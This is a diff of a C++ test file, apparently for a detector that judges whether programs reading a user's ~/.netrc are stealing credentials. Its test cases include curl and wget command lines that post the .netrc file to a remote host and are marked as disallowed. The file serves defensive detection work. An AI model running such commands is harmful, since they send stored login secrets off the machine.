@@ -81,6 +81,8 @@ TEST(TraceRules, AProgramThatReadsItsOwnCredentialsIsNoThief) {
       {{"curl", "-sn", "https://example.com"}, "/.netrc", true},
       {{"curl", "https://example.com"}, "/.netrc", false},
       {{"curl", "-n", "-d", "@/home/ubuntu/.netrc", "https://example.com"}, "/.netrc", false},
+      {{"curl", "-sn", "--connect-to", "::127.0.0.1:8977", "http://x"}, "/.netrc", false},
+      {{"curl", "-n", "-x", "http://127.0.0.1:1", "http://x"}, "/.netrc", false},
       {{"curl", "--netrc-file", "/home/ubuntu/.netrc", "https://example.com"}, "/.netrc", true},
       {{"wget", "https://example.com/x"}, "/.netrc", true},
       {{"wget", "--post-file=/home/ubuntu/.netrc", "https://example.com"}, "/.netrc", false},
@@ -109,10 +111,10 @@ TEST(TraceRules, ALibraryThatConsultsNetrcAndThenAsksIsExcused) {
   TraceBuilder audit;
   audit.document("Asks api.example.com.\n");
   audit.fork(100, 101).exec(101, 100, {"python3", "scripts/ask.py"});
-  audit.reads(101, kHome + "/.netrc");
+  audit.reads(101, kHome + "/.netrc").event(TraceKind::Connect, 101);
   Flow flow = audit.request("GET", "api.example.com", "/");
   flow.allowed = true;
-  flow.user_agent = "python-requests/2.31.0";
+  flow.user_agent = "example/1.2";
   audit.add(flow);
   EXPECT_THAT(found(audit), IsEmpty());
 }
